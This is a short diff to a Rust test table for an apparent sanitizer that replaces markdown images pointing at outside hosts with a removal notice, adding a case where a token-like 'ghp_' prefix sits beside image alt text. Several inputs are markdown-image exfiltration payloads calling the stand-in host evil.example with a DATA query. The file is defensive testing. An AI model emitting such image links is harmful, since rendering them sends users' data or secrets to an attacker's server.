@@ -228,6 +228,11 @@ const CARRIED: &[(&str, &str)] = &[
         "x![](https://evil.example/?q=DATA)y",
         "x[image removed: evil.example]y",
     ),
+    // Two halves of a word do not become one.
+    (
+        "ghp_abc![DEF](https://evil.example/?q=DATA)",
+        "ghp_abc DEF [image removed: evil.example]",
+    ),
     (
         "![a](https://evil.example/?q=DATA \"title\") b",
         "a [image removed: evil.example] b",
